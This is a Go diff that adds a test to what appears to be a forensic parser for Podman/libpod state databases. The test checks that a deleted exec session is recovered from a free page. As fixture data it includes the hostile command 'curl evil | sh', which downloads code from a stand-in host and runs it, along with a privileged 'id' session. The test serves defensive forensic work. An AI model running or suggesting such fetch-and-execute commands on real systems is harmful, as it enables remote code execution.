@@ -2,6 +2,7 @@ package storage
 
 import (
 	"encoding/json"
+	"fmt"
 	"os"
 	"path/filepath"
 	"reflect"
@@ -249,6 +250,70 @@ func TestStorageLibpodPod(t *testing.T) {
 	if p1 == nil || p1.Name != "p1" || p1.Namespace != "ns1" || p1.SandboxID != "infra" || p1.State != model.StateRunning || p1.CgroupParent != "/pods/p1" ||
 		!reflect.DeepEqual(p1.Containers, []model.PodContainer{{ID: "web", Name: "p1-web", Image: "img:1", State: "exited"}}) {
 		t.Errorf("pods %+v", s.Pods)
+	}
+}
+
+// A live exec session (still in the exec bucket) and a deleted one whose
+// record is only in a free page.
+func TestStorageExecSessions(t *testing.T) {
+	f := store(t, "a")
+	f[g+"overlay-containers/containers.json"] = mustJSON(t, []map[string]any{ctrRecord("a", "")})
+	dir := t.TempDir()
+	tree(t, dir, f)
+	file := filepath.Join(dir, g, "libpod", boltStateFile)
+	liveID, goneID, ctr := strings.Repeat("1", 64), strings.Repeat("2", 64), strings.Repeat("c", 64)
+	rec := func(id string, state, pid int, cmd string) []byte {
+		// In libpod's field order (a struct, not a map).
+		return []byte(`{"id":"` + id + `","containerId":"` + ctr + `","state":` + fmt.Sprint(state) + `,"pid":` + fmt.Sprint(pid) + `,"config":{"command":` + mustJSON(t, []string{"sh", "-c", cmd}) + `,"user":"0","privileged":true}}`)
+	}
+	writeLibpodDB(t, file, map[string][2]string{"a": {`{"id":"a","name":"a"}`, `{"state":3,"pid":7}`}}, nil, nil)
+	db, err := bolt.Open(file, 0o600, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	err = db.Update(func(tx *bolt.Tx) error {
+		xb, _ := tx.CreateBucketIfNotExists([]byte(bktExec))
+		xb.Put([]byte(liveID), []byte("a"))
+		xb.Put([]byte(goneID), []byte("a"))
+		cb := tx.Bucket([]byte(bktCtr)).Bucket([]byte("a"))
+		eb, _ := cb.CreateBucketIfNotExists([]byte("exec"))
+		eb.Put([]byte(liveID), rec(liveID, 2, 4242, "id"))
+		eb.Put([]byte(goneID), rec(goneID, 3, 0, "curl evil | sh"))
+		return nil
+	})
+	if err == nil {
+		err = db.Update(func(tx *bolt.Tx) error {
+			tx.Bucket([]byte(bktExec)).Delete([]byte(goneID))
+			return tx.Bucket([]byte(bktCtr)).Bucket([]byte("a")).Bucket([]byte("exec")).Delete([]byte(goneID))
+		})
+	}
+	db.Close()
+	if err != nil {
+		t.Fatal(err)
+	}
+	src, err := evidence.OpenDir(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer src.Close()
+	s, err := Open(src, Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var live, gone []ExecSession
+	for _, x := range s.ExecSessions {
+		switch x.ID {
+		case liveID:
+			live = append(live, x)
+		case goneID:
+			gone = append(gone, x)
+		}
+	}
+	if len(live) == 0 || !live[0].Live || live[0].Pid != 4242 || live[0].State != "running" || !reflect.DeepEqual(live[0].Command, []string{"sh", "-c", "id"}) || !live[0].Privileged {
+		t.Errorf("live sessions %+v", live)
+	}
+	if len(gone) == 0 || gone[0].Live || gone[0].State != "stopped" || !reflect.DeepEqual(gone[0].Command, []string{"sh", "-c", "curl evil | sh"}) || gone[0].ContainerID != ctr {
+		t.Errorf("deleted sessions %+v (all %+v)", gone, s.ExecSessions)
 	}
 }
 
